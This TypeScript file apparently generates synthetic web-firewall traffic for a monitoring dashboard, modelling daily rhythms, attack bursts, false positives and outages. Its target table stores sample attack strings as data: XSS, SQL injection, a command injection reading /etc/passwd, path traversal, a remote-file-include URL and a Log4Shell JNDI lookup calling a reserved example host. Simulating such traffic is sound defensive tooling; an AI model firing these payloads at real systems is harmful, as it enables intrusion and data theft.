/**
 * Generated traffic that looks like that of a real site: a daily and a weekly rhythm, a steady trickle of attacks, and
 * bursts. Each second depends on its number alone, so that a gap is filled with the same events at any time.
 */
import { type AttackDetails, CATEGORIES, type Category, type Event } from '../event.ts';

export const SAMPLE_HOSTS = [
  { hostname: 'www.example.com', perSecond: 0.09 },
  { hostname: 'shop.example.com', perSecond: 0.05 },
  { hostname: 'api.example.com', perSecond: 0.07 },
  { hostname: 'blog.example.com', perSecond: 0.025 },
  { hostname: 'login.example.com', perSecond: 0.02 },
  { hostname: 'legacy.example.com', perSecond: 0.01 },
] as const;

/** Relative frequency of the categories outside of bursts. */
const TRICKLE: Readonly<Record<Category, number>> = {
  xss: 10,
  sqli: 16,
  cmdi: 7,
  cc: 6,
  custom: 8,
  illegal: 12,
  lfi: 9,
  robot: 20,
  antitamper: 1,
  rfi: 3,
  vuln: 11,
  whiteblackip: 6,
  webshell: 2,
};
const TRICKLE_TOTAL = CATEGORIES.reduce((sum, name) => sum + TRICKLE[name], 0);
const TRICKLE_SHARE = 0.03;
/** An ordinary event counts this many requests, which keeps the number of events of a month small. */
const REQUESTS_PER_EVENT = 4;

interface Target {
  /** The rule of the core rule set that finds such attacks. */
  rule: string;
  urls: readonly string[];
  /** What the rule matches, and the value if it is not another field of the attack. */
  variable: string;
  value?: string;
}

const TARGETS: Readonly<Record<Category, Target>> = {
  xss: {
    rule: '941100',
    urls: ['/search', '/comments', '/profile'],
    variable: 'ARGS:q',
    value: '<script>alert(document.domain)</script>',
  },
  sqli: {
    rule: '942100',
    urls: ['/products', '/search', '/api/v1/orders', '/login'],
    variable: 'ARGS:id',
    value: "1' UNION SELECT name, email FROM users--",
  },
  cmdi: {
    rule: '932160',
    urls: ['/cgi-bin/status', '/api/v1/ping'],
    variable: 'ARGS:address',
    value: '127.0.0.1;cat /etc/passwd',
  },
  cc: { rule: '912120', urls: ['/login', '/api/v1/token'], variable: 'REMOTE_ADDR' },
  custom: { rule: '100010', urls: ['/admin'], variable: 'REQUEST_FILENAME' },
  illegal: {
    rule: '920350',
    urls: ['/', '/api/v1/upload'],
    variable: 'REQUEST_HEADERS:Host',
    value: '192.0.2.1',
  },
  lfi: {
    rule: '930120',
    urls: ['/download', '/static/..%2f..%2fetc/passwd'],
    variable: 'ARGS:file',
    value: '../../../../etc/passwd',
  },
  robot: {
    rule: '913100',
    urls: ['/', '/robots.txt', '/wp-login.php', '/.env', '/.git/config'],
    variable: 'REQUEST_HEADERS:User-Agent',
  },
  antitamper: { rule: '100020', urls: ['/index.html'], variable: 'REQUEST_FILENAME' },
  rfi: {
    rule: '931130',
    urls: ['/include.php'],
    variable: 'ARGS:page',
    value: 'http://198.51.100.99/shell.txt',
  },
  vuln: {
    rule: '944150',
    urls: ['/actuator/env', '/xmlrpc.php', '/vendor/phpunit/eval-stdin.php'],
    variable: 'REQUEST_HEADERS:Referer',
    value: '{jndi:ldap://198.51.100.99/a}',
  },
  whiteblackip: { rule: '910100', urls: ['/', '/login'], variable: 'REMOTE_ADDR' },
  webshell: {
    rule: '955100',
    urls: ['/uploads/shell.php', '/images/up.php'],
    variable: 'ARGS:cmd',
    value: 'uname -a',
  },
};
/** Attackers outside of bursts, each with its country. Their addresses and networks are reserved for examples. */
const ATTACKERS = Array.from({ length: 240 }, (_, i) => ({
  source:
    i % 12 === 5
      ? `2001:db8:${i.toString(16)}::1`
      : `${['192.0.2', '198.51.100', '203.0.113'][i % 3]}.${i + 1}`,
  country: ['US', 'CN', 'DE', 'NL', 'RU', 'BR', 'IN', 'FR', 'VN', 'SG'][(i * 7) % 10] ?? 'US',
  userAgent:
    ['sqlmap/1.8.11#stable (https://sqlmap.org)', 'Nikto/2.5.0', 'python-requests/2.32.3', 'zgrab/0.x'][
      i % 4
    ] ?? '',
}));
/** What users write into forms, and rules take for attacks. Each user has one form. */
const FALSE_POSITIVES: Partial<Record<Category, Target>> = {
  xss: {
    rule: '941320',
    urls: ['/comments'],
    variable: 'ARGS:text',
    value: 'Thank you, <b>great</b> recipe',
  },
  sqli: {
    rule: '942130',
    urls: ['/search'],
    variable: 'ARGS:q',
    value: "rock 'n' roll' or 'n'='n",
  },
  cmdi: {
    rule: '932130',
    urls: ['/support'],
    variable: 'ARGS:message',
    value: 'What does $(hostname) print here?',
  },
};
const FALSE_POSITIVE_SHARE = 0.25;
const USERS_PER_FORM = 60;

/** The rule that blocks requests, and the score from which on it does. */
const BLOCKING = { id: '949110', variable: 'TX:BLOCKING_INBOUND_ANOMALY_SCORE', value: '5' };
const SCORE = 5;

/** A burst is mostly one kind of attack, as of a scanner or a flood. */
const BURST_CATEGORIES: readonly Category[] = ['sqli', 'robot', 'cc', 'xss', 'lfi', 'cmdi'];
const BURST_WINDOW_S = 6 * 3_600;
const BURST_PER_SECOND = 0.7;
/** The first window of a day always has a burst. */
const WINDOWS_PER_DAY = 4;

/** Events from one second (since the epoch) until just before another. `hostIds` are in the order of SAMPLE_HOSTS. */
export function sampleEvents(from: number, endExclusive: number, hostIds: readonly string[]): Event[] {
  const events: Event[] = [];
  let burst = burstOf(from);
  for (let second = from; second < endExclusive; second++) {
    if (second % BURST_WINDOW_S === 0) burst = burstOf(second);
    events.push(...eventsOf(second, burst, hostIds));
  }
  return events;
}

function eventsOf(second: number, burst: Burst | null, hostIds: readonly string[]): Event[] {
  const random = randomNumbers(second);
  const factor = rhythm(second);
  const events: Event[] = [];
  const add = (host: number, attack: Category | null, count: number, attacker?: number) => {
    const time = second * 1_000 + Math.floor(random() * 1_000);
    const details = attack === null ? undefined : detailsOf(attack, time, attacker);
    const { status, bytesIn, bytesOut } = responseOf(time, count, details);
    // All with the same fields: the store reads objects of one shape twice as fast.
    const hostId = hostIds[host] ?? null;
    events.push({ time, hostId, request: true, attack, count, details, status, bytesIn, bytesOut });
  };
  for (const [host, { perSecond }] of SAMPLE_HOSTS.entries()) {
    for (let n = occurrences(perSecond * factor, random); n > 0; n--) {
      const attack = random() < TRICKLE_SHARE ? pickCategory(random) : null;
      add(host, attack, attack === null ? REQUESTS_PER_EVENT : 1);
    }
  }
  if (burst && second >= burst.start && second < burst.end) {
    for (let n = occurrences(BURST_PER_SECOND, random); n > 0; n--) {
      add(burst.host, random() < 0.85 ? burst.category : pickCategory(random), 1, burst.start);
    }
  }
  return events.sort((a, b) => a.time - b.time);
}

/** What goes wrong, by response code. */
const ERROR_PATHS: Readonly<Record<number, readonly string[]>> = {
  404: ['/favicon.ico', '/old/catalogue', '/images/banner-2024.png', '/feed.xml', '/apple-touch-icon.png'],
  500: ['/checkout', '/api/v1/orders', '/search'],
  502: ['/api/v1/token', '/api/v1/orders'],
};
/** A part of the server fails for 20 minutes now and then. */
const OUTAGE = { everyS: 61_000, forS: 1_200, share: 0.12 };

/** Like details, with random numbers of its own. */
function responseOf(time: number, count: number, details: AttackDetails | undefined) {
  const random = randomNumbers(time + 1);
  const isOutage = (time / 1_000) % OUTAGE.everyS < OUTAGE.forS;
  const bytesIn = count * Math.round(400 + random() * 600);
  if (details) return { status: details.status, bytesIn, bytesOut: count * 1_200 };
  const bytesOut = count * Math.round(1_500 + random() ** 3 * 80_000);
  const pick = random() - (isOutage ? OUTAGE.share : 0.003);
  if (pick < 0) return { status: random() < 0.7 ? 500 : 502, bytesIn, bytesOut: count * 700 };
  const status = pick < 0.025 ? 404 : pick < 0.09 ? 304 : 200;
  return { status, bytesIn, bytesOut: status === 200 ? bytesOut : count * 500 };
}

/** The path of a request with an error. */
export function errorPath({ time, status = 200, details }: Event): string | undefined {
  const paths = details ? undefined : ERROR_PATHS[status];
  return paths?.[Math.floor(randomNumbers(time + 2)() ** 2 * paths.length)];
}

/** A burst has one attacker. Details have their own random numbers, so that they do not change what is counted. */
function detailsOf(attack: Category, time: number, attacker?: number): AttackDetails {
  const random = randomNumbers(time);
  const form =
    attacker === undefined && random() < FALSE_POSITIVE_SHARE ? FALSE_POSITIVES[attack] : undefined;
  const { rule: id, urls, variable, value } = form ?? TARGETS[attack];
  // Squared, so that some are frequent and others rare.
  const number = Math.floor(attacker ?? random() ** 2 * ATTACKERS.length) % ATTACKERS.length;
  const { source = '', country = '', userAgent = '' } = form ? userOf(id, number) : (ATTACKERS[number] ?? {});
  const url = urls[Math.floor(random() ** 2 * urls.length)] ?? '/';
  const isBlocked = time % 8 !== 0;
  const fields: Readonly<Record<string, string>> = {
    REMOTE_ADDR: source,
    REQUEST_FILENAME: url,
    'REQUEST_HEADERS:User-Agent': userAgent,
  };
  const match = { id, variable, value: value ?? fields[variable] ?? '', severity: 'critical' };
  const [, argument] = /^ARGS:(.*)/.exec(variable) ?? [];
  return {
    // As ModSecurity for nginx makes them.
    id: `${Math.floor(time / 10)}.${String(Math.floor(random() * 1_000_000)).padStart(6, '0')}`,
    blocked: isBlocked,
    ...{ source, country, userAgent, url },
    ...(argument !== undefined && { query: `${argument}=${encodeURIComponent(match.value)}` }),
    method: attack === 'cc' ? 'POST' : 'GET',
    status: isBlocked ? 403 : 200,
    rule: id,
    rules: isBlocked ? [match, BLOCKING] : [match],
    score: SCORE,
  };
}

function userOf(rule: string, number: number) {
  return {
    source: `2001:db8:${rule.slice(0, 3)}:${1 + (number % USERS_PER_FORM)}::1`,
    country: 'DE',
    userAgent: 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0',
  };
}

/** Busy afternoons, quiet nights, slow weekends: a factor around 1. */
function rhythm(second: number): number {
  const hour = (second / 3_600) % 24;
  const weekday = Math.floor(second / 86_400 + 4) % 7;
  const day = 1 + 0.75 * Math.cos(((hour - 14) / 24) * 2 * Math.PI);
  return day * (weekday === 0 || weekday === 6 ? 0.55 : 1.1);
}

interface Burst {
  start: number;
  end: number;
  host: number;
  category: Category;
}

/** About three of four windows of six hours have a burst of 10 to 40 minutes. */
function burstOf(second: number): Burst | null {
  const window = Math.floor(second / BURST_WINDOW_S);
  const random = randomNumbers(window * 7_919 + 13);
  if (random() > 0.66 && window % WINDOWS_PER_DAY !== 0) return null;
  const start = window * BURST_WINDOW_S + random() * (BURST_WINDOW_S - 2_400);
  const end = start + 600 + random() * 1_800;
  const host = Math.floor(random() * SAMPLE_HOSTS.length);
  const category = BURST_CATEGORIES[Math.floor(random() * BURST_CATEGORIES.length)] ?? 'sqli';
  return { start, end, host, category };
}

function pickCategory(random: () => number): Category {
  let left = random() * TRICKLE_TOTAL;
  return (
    CATEGORIES.find((name) => {
      left -= TRICKLE[name];
      return left < 0;
    }) ?? 'vuln'
  );
}

/** A whole number with the given mean: the whole part, and the rest by chance. */
function occurrences(mean: number, random: () => number): number {
  return Math.floor(mean) + (random() < mean % 1 ? 1 : 0);
}

/** mulberry32: small, fast, and the same on every machine. */
function randomNumbers(seed: number): () => number {
  let state = Math.imul(seed, 0x9e3779b1) >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), state | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}
